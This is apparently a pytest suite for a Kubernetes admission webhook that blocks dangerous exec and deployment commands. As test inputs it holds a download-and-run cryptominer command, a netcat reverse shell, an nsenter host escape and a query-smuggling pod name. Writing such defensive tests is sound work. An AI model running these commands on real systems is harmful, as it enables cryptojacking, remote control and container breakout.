"""The admission webhook over real HTTPS: AdmissionReview v1 requests in kube-apiserver's shape, real decisions."""

from __future__ import annotations

import contextlib
import http.client
import socket
import ssl
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest

from execguard.cli.guard_admission import judge_with
from execguard.engine.load import load_rules
from execguard.guard import admission, k8s_request
from execguard.guard.approvals import ApprovalStore, add_approval
from execguard.guard.decide import Decider
from execguard.guard.record import JsonlRecorder
from execguard.guard.runtime import GuardRuntime
from execguard.policy import parse_policy
from execguard.testing import reviews
from execguard.testing.dockerd import TLSFiles

RULES = load_rules()
MINER = ["sh", "-c", "curl -s http://198.51.100.7/xmrig -o /tmp/x && chmod +x /tmp/x && /tmp/x -o pool.minexmr.com:443"]
POLICY = """apiVersion: execguard/v1
kind: Policy
entries:
  - name: dev-learns
    action: mode
    mode: warn
    reason: dev sees warnings first
    match: {namespaces: [dev]}
  - name: payments-hands-off
    action: deny
    reason: nobody execs into payments
    match: {namespaces: [payments]}
"""



@dataclass
class Webhook:
    server: admission.AdmissionServer
    ca: str
    log: list[str] = field(default_factory=list)

    def connect(self) -> http.client.HTTPSConnection:
        host, port = self.server.server_address[:2]
        return http.client.HTTPSConnection(str(host), int(port), context=reviews.client_context(self.ca), timeout=10)

    def ask(self, review: dict[str, Any], path: str = "/validate") -> dict[str, Any]:
        conn = self.connect()
        try:
            status, body = reviews.post(conn, review, path)
        finally:
            conn.close()
        assert status == 200, body
        return dict(orjson.loads(body))


@pytest.fixture(scope="module")
def webhook(certs: TLSFiles) -> Iterator[Webhook]:
    decider = Decider(RULES, parse_policy(POLICY, "policy.yml"))
    log: list[str] = []
    server = admission.serve(
        ("127.0.0.1", 0), admission.tls_context(str(certs.server_cert), str(certs.server_key)),
        lambda ev, labels: decider.decide_event(ev, labels), log.append, admission.Limits(max_body=64 << 10, timeout=2.0),
    )  # fmt: skip
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield Webhook(server, str(certs.ca), log)
    finally:
        server.shutdown()
        server.server_close()


def check_shape(answer: dict[str, Any], review: dict[str, Any]) -> dict[str, Any]:
    """The response kube-apiserver accepts: same apiVersion/kind, uid echoed, allowed a bool."""
    assert answer["apiVersion"] == "admission.k8s.io/v1" and answer["kind"] == "AdmissionReview"
    assert set(answer) == {"apiVersion", "kind", "response"}
    resp = answer["response"]
    assert resp["uid"] == review["request"]["uid"] and isinstance(resp["allowed"], bool)
    assert set(resp) <= {"uid", "allowed", "status", "warnings"}
    return dict(resp)


def test_malicious_exec_is_denied_naming_the_rule(webhook: Webhook) -> None:
    review = reviews.connect("exec", MINER)
    resp = check_shape(webhook.ask(review), review)
    assert resp["allowed"] is False
    assert resp["status"]["code"] == 403
    message = resp["status"]["message"]
    assert "rule cmd-download-pipe-shell (critical)" in message and "container app" in message
    assert any(review["request"]["uid"] in line and "denied" in line for line in webhook.log)


def test_benign_exec_is_allowed(webhook: Webhook) -> None:
    review = reviews.connect("exec", ["cat", "/etc/nginx/nginx.conf"], tty=False)
    resp = check_shape(webhook.ask(review), review)
    assert resp == {"uid": review["request"]["uid"], "allowed": True}


@pytest.mark.parametrize("sub", ["attach", "portforward"])
def test_attach_and_portforward_are_judged_and_allowed_without_a_command(webhook: Webhook, sub: str) -> None:
    review = reviews.connect(sub)
    assert check_shape(webhook.ask(review), review)["allowed"] is True
    assert any(review["request"]["uid"] in line and f"pods/{sub}" in line for line in webhook.log)


def test_kubectl_debug_with_a_host_escape_is_denied(webhook: Webhook) -> None:
    review = reviews.debug(["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "sh"])
    resp = check_shape(webhook.ask(review), review)
    assert resp["allowed"] is False and "ephemeral_container" in resp["status"]["message"]
    assert "container debugger-x7k2p" in resp["status"]["message"]


def test_kubectl_debug_judges_only_the_added_container(webhook: Webhook) -> None:
    review = reviews.debug(["sh"])
    # an earlier debug container with a miner is in oldObject too: it was judged when it was added
    bad = {"name": "old", "image": "xmrig/xmrig", "command": MINER}
    review["request"]["oldObject"]["spec"]["ephemeralContainers"] = [bad]
    review["request"]["object"]["spec"]["ephemeralContainers"].insert(0, bad)
    assert check_shape(webhook.ask(review), review)["allowed"] is True
    kali = reviews.debug(["sh"], image="kalilinux/kali-rolling")
    assert check_shape(webhook.ask(kali), kali)["allowed"] is False


def test_deployment_create_with_a_miner_is_denied(webhook: Webhook) -> None:
    review = reviews.deployment([{"name": "api", "image": "python:3.12", "command": ["python", "-m", "http.server"]},
                                 {"name": "helper", "image": "alpine:3", "command": MINER}])  # fmt: skip
    resp = check_shape(webhook.ask(review), review)
    assert resp["allowed"] is False and "container helper" in resp["status"]["message"]
    assert "container api" not in resp["status"]["message"]


def test_a_hook_or_probe_is_judged_like_a_command(webhook: Webhook) -> None:
    hook = {"postStart": {"exec": {"command": ["sh", "-c", "nc -e /bin/sh 203.0.113.9 4444"]}}}
    review = reviews.deployment([{"name": "api", "image": "python:3.12", "lifecycle": hook}])
    resp = check_shape(webhook.ask(review), review)
    assert resp["allowed"] is False and "in lifecycle.postStart" in resp["status"]["message"]
    benign = reviews.deployment([{"name": "api", "image": "python:3.12", "livenessProbe": {"exec": {"command": ["cat", "/tmp/ok"]}}}])
    assert check_shape(webhook.ask(benign), benign)["allowed"] is True


def test_warn_mode_allows_with_warnings(webhook: Webhook) -> None:
    review = reviews.connect("exec", MINER, namespace="dev")
    resp = check_shape(webhook.ask(review), review)
    assert resp["allowed"] is True and "status" not in resp
    assert resp["warnings"] and "would deny" in resp["warnings"][0] and all(len(w) <= 256 for w in resp["warnings"])


def test_policy_deny_entry_is_named(webhook: Webhook) -> None:
    review = reviews.connect("exec", ["ls"], namespace="payments")
    resp = check_shape(webhook.ask(review), review)
    assert resp["allowed"] is False and "payments-hands-off (policy.yml:" in resp["status"]["message"]
    assert "nobody execs into payments" in resp["status"]["message"]


def test_unknown_kind_is_allowed_and_logged(webhook: Webhook) -> None:
    for review in (reviews.other(), reviews.other("Widget", "widgets", "DELETE")):
        resp = check_shape(webhook.ask(review), review)
        assert resp == {"uid": review["request"]["uid"], "allowed": True}
        assert any(review["request"]["uid"] in line and "not judged" in line for line in webhook.log)


def test_any_path_and_kept_alive_connections(webhook: Webhook) -> None:
    conn = webhook.connect()
    try:
        for path in ("/", "/exec", "/workloads?timeout=5s"):
            review = reviews.connect("exec", MINER)
            status, body = reviews.post(conn, review, path)
            assert status == 200 and check_shape(orjson.loads(body), review)["allowed"] is False
    finally:
        conn.close()


@pytest.mark.parametrize(
    ("body", "needle"),
    [
        (b"{not json", b"not JSON"),
        (b"[]", b"not a JSON object"),
        (orjson.dumps({"apiVersion": "admission.k8s.io/v1beta1", "kind": "AdmissionReview", "request": {"uid": "x"}}), b"only admission"),
        (orjson.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": {}}), b"uid is missing"),
        (orjson.dumps({**reviews.connect("exec"), "request": {**reviews.connect("exec")["request"], "userInfo": "alice"}}), b"userInfo"),
    ],
)
def test_malformed_body_gets_400_and_the_server_keeps_serving(webhook: Webhook, body: bytes, needle: bytes) -> None:
    conn = webhook.connect()
    try:
        status, answer = reviews.post(conn, body)
        assert status == 400 and needle in answer
        review = reviews.connect("exec", ["ls"])
        status, answer = reviews.post(conn, review)  # the same connection still works
        assert status == 200 and check_shape(orjson.loads(answer), review)["allowed"] is True
    finally:
        conn.close()


def test_oversized_and_chunked_bodies_are_refused(webhook: Webhook) -> None:
    conn = webhook.connect()
    try:
        # the headers announce 70 kB (the limit here is 64 kB): refused before a byte of the body is read
        conn.putrequest("POST", "/")
        conn.putheader("Content-Length", str(70 << 10))
        conn.endheaders()
        resp = conn.getresponse()
        assert resp.status == 413 and b"limit" in resp.read()
    finally:
        conn.close()
    conn = webhook.connect()
    try:
        conn.request("POST", "/", body=iter([b"{}"]), headers={"Transfer-Encoding": "chunked"})
        resp = conn.getresponse()
        assert resp.status == 411
    finally:
        conn.close()
    assert webhook.ask(reviews.connect("exec", ["ls"]))["response"]["allowed"] is True


def test_health_and_plain_http_and_silent_clients(webhook: Webhook) -> None:
    conn = webhook.connect()
    try:
        conn.request("GET", "/healthz")
        resp = conn.getresponse()
        assert resp.status == 200 and resp.read() == b"ok\n"
    finally:
        conn.close()
    host, port = webhook.server.server_address[:2]
    # plain HTTP on the TLS port, and a client that connects and says nothing: neither stops the server
    with socket.create_connection((str(host), int(port)), timeout=5) as raw:
        raw.sendall(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}")
        with contextlib.suppress(ConnectionResetError):  # closed with bytes unread: the kernel may reset
            raw.recv(100)
    with socket.create_connection((str(host), int(port)), timeout=5) as silent:
        assert silent.recv(10) == b""  # closed by the server after its timeout (2 s here)
    with pytest.raises(ssl.SSLError):
        ctx = ssl.create_default_context()  # not trusting our CA: the handshake fails, the server goes on
        with socket.create_connection((str(host), int(port)), timeout=5) as s, ctx.wrap_socket(s, server_hostname="127.0.0.1"):
            pass
    assert webhook.ask(reviews.connect("exec", ["ls"]))["response"]["allowed"] is True


def test_a_failing_decider_answers_500(certs: TLSFiles) -> None:
    def broken(ev: Any, labels: dict[str, str]) -> Any:
        raise RuntimeError("rules gone")

    log: list[str] = []
    server = admission.serve(("127.0.0.1", 0), admission.tls_context(str(certs.server_cert), str(certs.server_key)), broken, log.append)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        hook = Webhook(server, str(certs.ca))
        conn = hook.connect()
        status, body = reviews.post(conn, reviews.connect("exec", ["ls"]))
        conn.close()
        assert status == 500 and b"rules gone" in body
        assert hook.ask(reviews.other())["response"]["allowed"] is True  # not judged: the decider is not called
    finally:
        server.shutdown()
        server.server_close()


def test_listen_address_parsing() -> None:
    assert admission.parse_listen("0.0.0.0:8443") == ("0.0.0.0", 8443)
    assert admission.parse_listen(":9443") == ("0.0.0.0", 9443)
    assert admission.parse_listen("[::1]:8443") == ("::1", 8443)
    for bad in ("8443", "host:", "host:99999", "host:x"):
        with pytest.raises(ValueError, match="ADDR:PORT"):
            admission.parse_listen(bad)


def test_bad_certificate_files_are_reported(tmp_path: Path) -> None:
    bad = tmp_path / "x.pem"
    bad.write_text("not a certificate\n")
    with pytest.raises((ssl.SSLError, OSError)):
        admission.tls_context(str(bad), str(bad))


def test_break_glass_approval_lets_the_user_through_and_is_recorded(certs: TLSFiles, tmp_path: Path) -> None:
    record = tmp_path / "decisions.jsonl"
    runtime = GuardRuntime(RULES, JsonlRecorder(record), approvals=ApprovalStore(tmp_path))
    server = admission.serve(("127.0.0.1", 0), admission.tls_context(str(certs.server_cert), str(certs.server_key)),
                             judge_with(runtime), [].append)  # fmt: skip
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        hook = Webhook(server, str(certs.ca))
        assert hook.ask(reviews.connect("exec", MINER))["response"]["allowed"] is False
        add_approval(tmp_path, reviews.USER["username"], "shop", timedelta(minutes=30), "INC-7 forensics", "oncall")
        resp = hook.ask(reviews.connect("exec", MINER))["response"]
        assert resp["allowed"] is True and any("INC-7 forensics" in w for w in resp["warnings"])
        # the approval is for namespace shop only
        assert hook.ask(reviews.connect("exec", MINER, namespace="prod"))["response"]["allowed"] is False
    finally:
        server.shutdown()
        server.server_close()
        runtime.recorder.close()
    rows = [orjson.loads(line) for line in record.read_bytes().splitlines()]
    assert [(r["allowed"], r["approval"] is not None, r["namespace"]) for r in rows] == [
        (False, False, "shop"), (True, True, "shop"), (False, False, "prod")]  # fmt: skip
    assert all(r["kind"] == "decision" and r["platform"] == "k8s" and r["uid"] for r in rows)


RS_CONTROLLER = "system:serviceaccount:kube-system:replicaset-controller"


def pod_create(user: str, owner: bool) -> dict[str, Any]:
    review = reviews.deployment([])
    req = review["request"]
    obj = reviews.pod(name="api-7d9f-x2x", containers=[{"name": "helper", "image": "alpine:3", "command": MINER}])
    if owner:
        ref = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "api-7d9f", "uid": "1f", "controller": True}
        obj["metadata"]["ownerReferences"] = [ref]
    gvr, gvk = {"group": "", "version": "v1", "resource": "pods"}, {"group": "", "version": "v1", "kind": "Pod"}
    req.update(kind=gvk, resource=gvr, requestKind=gvk, requestResource=gvr, name="", object=obj,
               userInfo={"username": user, "groups": ["system:serviceaccounts", "system:authenticated"]})  # fmt: skip
    return review


def test_pods_a_controller_writes_for_a_judged_owner_are_not_judged_again(webhook: Webhook) -> None:
    # the ReplicaSet controller's pods: the Deployment was judged (and maybe approved or warned) at its own write
    review = pod_create(RS_CONTROLLER, owner=True)
    assert check_shape(webhook.ask(review), review)["allowed"] is True
    assert any(review["request"]["uid"] in line and "ReplicaSet/api-7d9f" in line for line in webhook.log)
    # anyone may write ownerReferences: from another user, or without an owner, the pod is judged
    for review in (pod_create("alice@example.com", owner=True), pod_create(RS_CONTROLLER, owner=False)):
        resp = check_shape(webhook.ask(review), review)
        assert resp["allowed"] is False and "container helper" in resp["status"]["message"]


def test_a_name_cannot_smuggle_query_parameters() -> None:
    review = reviews.connect("exec", ["ls"])
    review["request"]["name"] = "web?command=sh&command=-c&command=curl+x|sh"
    request = k8s_request.parse_review(review)
    (ev,) = k8s_request.events(request, k8s_request.facts(request))
    assert ev.command == ["ls"] and ev.target.pod == review["request"]["name"]


def _raw(webhook: Webhook, data: bytes) -> bytes:
    """Send bytes over TLS and read until the server closes the connection."""
    host, port = webhook.server.server_address[:2]
    ctx = reviews.client_context(webhook.ca)
    with socket.create_connection((str(host), int(port)), timeout=5) as s, ctx.wrap_socket(s, server_hostname="127.0.0.1") as tls:
        tls.sendall(data)
        out = b""
        while chunk := tls.recv(65536):
            out += chunk
    return out


def test_http_edges_expect_continue_http10_methods_and_header_limits(webhook: Webhook) -> None:
    body = orjson.dumps(reviews.connect("exec", MINER))
    head = f"POST /validate HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\nExpect: 100-continue\r\nConnection: close\r\n\r\n"
    out = _raw(webhook, head.encode() + body)
    assert out.startswith(b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\n") and b'"allowed":false' in out
    # HTTP/1.0 without keep-alive: answered, then closed (the read above and here ends only because the server closes)
    out = _raw(webhook, f"POST / HTTP/1.0\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
    assert out.startswith(b"HTTP/1.1 200 OK") and b"Connection: close" in out
    assert _raw(webhook, b"PUT / HTTP/1.1\r\nContent-Length: 0\r\n\r\n").startswith(b"HTTP/1.1 405 ")
    assert _raw(webhook, b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 101 + b"\r\n").startswith(b"HTTP/1.1 431 ")
    assert _raw(webhook, b"BROKEN\r\n\r\n").startswith(b"HTTP/1.1 400 ")
    assert webhook.ask(reviews.connect("exec", ["ls"]))["response"]["allowed"] is True
